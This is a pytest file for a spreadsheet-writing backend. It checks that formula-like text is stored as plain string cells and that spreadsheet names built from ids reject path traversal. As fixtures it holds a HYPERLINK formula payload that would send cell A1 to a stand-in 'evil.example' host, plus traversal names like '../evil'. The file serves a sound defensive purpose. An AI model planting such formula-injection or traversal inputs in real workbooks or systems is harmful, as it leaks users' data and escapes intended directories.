"""Cells are written as data, never as formulas: the shared rule, and the xlsx backend on
real files (the saved XML holds no ``<f>``); spreadsheet names only from checked ids."""

from __future__ import annotations

import zipfile
from collections.abc import Sequence
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from relay_shared.errors import PermanentError
from relay_shared.spreadsheet_cells import (
    FORMULA_PREFIXES,
    GOOGLE_VALUE_INPUT_OPTION,
    is_formula_like,
    needs_text_guard,
)
from relay_sheets.adapters.xlsx_backend import XlsxBackend
from relay_sheets.adapters.xlsx_session import WorkbookSession
from relay_sheets.domain.grid import Cell, RowChange, WorksheetUpsert
from relay_sheets.domain.layout import (
    LISTINGS,
    ORDERS,
    SpreadsheetRef,
    UnsafeNameError,
    channel_spreadsheet,
    merged_feed_spreadsheet,
)

REF = channel_spreadsheet("t1", "amazon")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# Every prefix of the rule, and text that only contains them further in.
GUARDED = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "=", "-"]
PLAIN = ["Widget", "a=b", "1-2", "x@y.com", " =1+1", "#N/A"]


def test_the_rule_names_exactly_six_prefixes() -> None:
    assert FORMULA_PREFIXES == ("=", "+", "-", "@", "\t", "\r")
    assert GOOGLE_VALUE_INPUT_OPTION == "RAW"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", True),
        (HYPERLINK, True),
        ("+1", True),
        ("-1", True),
        ("-", True),
        ("@SUM(A1)", True),
        ("\tfoo", True),
        ("\rfoo", True),
        ("Widget", False),
        ("a=b", False),
        (" =1+1", False),
        ("\n=1+1", False),
        ("1-2", False),
        ("", False),
    ],
)
def test_is_formula_like(text: str, expected: bool) -> None:
    assert is_formula_like(text) is expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1", True), ("-3", True), (-3, False), (-3.5, False), (0, False), (None, False)],
)
def test_only_text_is_guarded_numbers_stay_numbers(value: object, expected: bool) -> None:
    assert needs_text_guard(value) is expected


def sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {
            name: archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        }


def order_rows(values: Sequence[Cell]) -> WorksheetUpsert:
    return WorksheetUpsert(
        ORDERS,
        [
            RowChange((f"O-{n}", "A"), {"quantity": value, "shipped_at": value})
            for n, value in enumerate(values, start=1)
        ],
    )


async def test_formula_like_text_is_saved_as_string_cells_with_the_text_mark(
    tmp_path: Path,
) -> None:
    backend = XlsxBackend(tmp_path)
    listing = WorksheetUpsert(
        LISTINGS, [RowChange((HYPERLINK,), {"title": "@evil", "quantity": -3, "price": -1.5})]
    )

    await backend.upsert_rows(REF, [order_rows([*GUARDED, *PLAIN]), listing])

    path = backend.path_for(REF)
    orders = load_workbook(path)["Orders"]
    cells = [orders.cell(row=row, column=4) for row in range(2, 2 + len(GUARDED) + len(PLAIN))]
    assert [c.value for c in cells] == [*GUARDED, *PLAIN]
    assert [c.data_type for c in cells] == ["s"] * (len(GUARDED) + len(PLAIN))
    assert [c.quotePrefix for c in cells] == [True] * len(GUARDED) + [False] * len(PLAIN)
    listings = load_workbook(path)["Listings"]
    assert [(c.value, c.data_type, c.quotePrefix) for c in listings[2][:4]] == [
        (HYPERLINK, "s", True),
        ("@evil", "s", True),
        (-3, "n", False),
        (-1.5, "n", False),
    ]
    xml = sheet_xml(path)
    assert sorted(xml) == ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"]
    assert all("<f>" not in part and "<f " not in part for part in xml.values())
    inline = '<is><t>=HYPERLINK("http://evil.example/?x="&amp;A1,"click")</t></is>'
    assert [inline in part for part in xml.values()].count(True) == 2  # Orders and Listings


async def test_a_leading_carriage_return_is_text_too(tmp_path: Path) -> None:
    """Stored as a string cell; XML's end-of-line rule reads a raw CR back as LF (openpyxl
    writes it unescaped), which no longer starts a formula either way."""
    backend = XlsxBackend(tmp_path)

    await backend.upsert_rows(REF, [order_rows(["\r=1+1"])])

    cell = load_workbook(backend.path_for(REF))["Orders"]["D2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("\n=1+1", "s", True)
    assert all("<f>" not in part for part in sheet_xml(backend.path_for(REF)).values())


async def test_a_formula_left_in_a_managed_cell_is_rewritten_as_text(tmp_path: Path) -> None:
    """A workbook saved before the guard (or edited by hand) holds the same text as a live
    formula: the next write of that cell makes it text, and a rewrite after that is no
    change at all."""
    backend = XlsxBackend(tmp_path)
    await backend.upsert_rows(REF, [order_rows([HYPERLINK])])
    path = backend.path_for(REF)
    workbook = load_workbook(path)
    workbook["Orders"]["D2"] = HYPERLINK  # openpyxl's own inference: a formula
    assert workbook["Orders"]["D2"].data_type == "f"
    workbook.save(path)
    assert any("<f>" in part for part in sheet_xml(path).values())

    await backend.upsert_rows(REF, [order_rows([HYPERLINK])])

    cell = load_workbook(path)["Orders"]["D2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HYPERLINK, "s", True)
    assert all("<f>" not in part for part in sheet_xml(path).values())
    saved = path.stat().st_mtime_ns
    result = await backend.apply_edits(REF, [lambda _view: [order_rows([HYPERLINK])]])
    assert (result.saved, path.stat().st_mtime_ns) == (False, saved)


async def test_a_value_that_stops_being_formula_like_loses_the_text_mark(
    tmp_path: Path,
) -> None:
    backend = XlsxBackend(tmp_path)
    await backend.upsert_rows(REF, [order_rows(["-5"])])

    await backend.upsert_rows(REF, [order_rows([5])])

    cell = load_workbook(backend.path_for(REF))["Orders"]["D2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (5, "n", False)


def test_a_failed_edit_puts_back_guarded_cells_exactly() -> None:
    workbook = Workbook()
    workbook.remove(workbook.active)
    session = WorkbookSession(workbook)
    assert isinstance(session.apply(lambda _view: [order_rows([HYPERLINK])]), list)

    failed = session.apply(lambda _view: [order_rows(["plain", "bad \x01 text"])])

    assert isinstance(failed, PermanentError)
    assert failed.code == "unwritable_cell"
    cell = workbook["Orders"]["D2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HYPERLINK, "s", True)
    assert [c.value for c in workbook["Orders"][3]] == [None] * 4


@pytest.mark.parametrize(
    ("tenant", "channel", "kind"),
    [
        ("t1", "../evil", "channel"),
        ("t1", "Amazon", "channel"),
        ("t1", "amazon/x", "channel"),
        ("t1", "a b", "channel"),
        ("t1", "amazon\n", "channel"),
        ("t1", "", "channel"),
        ("t1", "a" * 33, "channel"),
        ("..", "amazon", "tenant"),
        ("T1", "amazon", "tenant"),
        ("t1/..", "amazon", "tenant"),
    ],
)
def test_spreadsheets_are_named_only_by_ids_of_their_shape(
    tenant: str, channel: str, kind: str
) -> None:
    with pytest.raises(UnsafeNameError) as refused:
        channel_spreadsheet(tenant, channel)
    assert (refused.value.kind, refused.value.name) == (
        kind,
        tenant if kind == "tenant" else channel,
    )
    assert "no workbook is written" in str(refused.value)


def test_a_ref_made_by_hand_is_checked_too(tmp_path: Path) -> None:
    with pytest.raises(UnsafeNameError):
        SpreadsheetRef("..", None, "Merged feed")
    with pytest.raises(ValueError, match="not the title"):
        SpreadsheetRef("t1", "amazon", "../../escape")
    with pytest.raises(ValueError, match="not the title"):
        SpreadsheetRef("t1", None, "Inventory – amazon")
    backend = XlsxBackend(tmp_path / "sheets")
    assert (
        backend.path_for(REF) == tmp_path / "sheets" / "t1" / "amazon" / "Inventory – amazon.xlsx"
    )
    assert backend.path_for(merged_feed_spreadsheet("t1")) == (
        tmp_path / "sheets" / "t1" / "Merged feed.xlsx"
    )
